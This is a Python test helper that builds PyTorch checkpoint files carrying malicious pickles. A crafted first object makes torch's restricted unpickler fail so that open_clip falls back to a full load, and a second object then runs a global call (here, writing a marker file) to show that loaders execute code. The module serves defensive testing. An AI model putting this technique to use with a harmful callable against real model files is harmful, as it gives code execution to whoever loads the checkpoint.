"""Weights files that run code when unpickled, built opcode by opcode (nothing here is ever loaded unsafely).

The payload is what issue 11 §5 describes: its first object makes torch's restricted unpickler raise
``TypeError`` (BUILD on an OrderedDict with a ``(None, {...})`` state, which plain pickle accepts as slot
state), and its second object calls ``io.open(marker, "w")``. open_clip catches that ``TypeError`` and retries
with a bare ``torch.load``; with ``TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1`` the retry is a full unpickle and the
marker file appears. A loader is safe when the marker never does.
"""

from __future__ import annotations

import pickle
import struct
import zipfile
from pathlib import Path

ENV = "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"


def _text(s: str) -> bytes:
    b = s.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(b)) + b


def call_global(module: str, name: str, *args: str) -> bytes:
    """Pickle instructions for ``module.name(*args)`` (two string arguments)."""
    assert len(args) == 2
    return (
        pickle.GLOBAL
        + f"{module}\n{name}\n".encode()
        + b"".join(_text(a) for a in args)
        + pickle.TUPLE2
        + pickle.REDUCE
    )


TYPE_ERROR_IN_RESTRICTED_UNPICKLER = (
    pickle.GLOBAL + b"collections\nOrderedDict\n" + pickle.EMPTY_TUPLE + pickle.REDUCE
    + pickle.NONE + pickle.EMPTY_DICT + _text("a") + pickle.BININT1 + b"\x01" + pickle.SETITEM
    + pickle.TUPLE2 + pickle.BUILD
)  # fmt: skip


def pickle_list(item: bytes) -> bytes:
    """A whole pickle of ``[item]``."""
    return pickle.PROTO + b"\x02" + pickle.EMPTY_LIST + item + pickle.APPEND + pickle.STOP


def payload(marker: Path, *, module: str = "io", name: str = "open") -> bytes:
    """A pickle: [restricted-unpickler TypeError, module.name(marker, "w")]."""
    return (
        pickle.PROTO + b"\x02" + pickle.EMPTY_LIST + pickle.MARK + TYPE_ERROR_IN_RESTRICTED_UNPICKLER
        + call_global(module, name, str(marker), "w") + pickle.APPENDS + pickle.STOP
    )  # fmt: skip


def write_zip_checkpoint(path: Path, data_pkl: bytes) -> Path:
    """A file laid out as ``torch.save`` writes one (torch recognises it by its zip magic and data.pkl)."""
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/version", "3\n")
    return path


def write_legacy_checkpoint(path: Path, marker: Path) -> Path:
    """The pre-1.6 format (consecutive pickles): the payload stands where torch expects the magic number."""
    path.write_bytes(payload(marker) + pickle.dumps(1001, protocol=2) * 4)
    return path


def malicious_checkpoint(path: Path, marker: Path) -> Path:
    return write_zip_checkpoint(path, payload(marker))
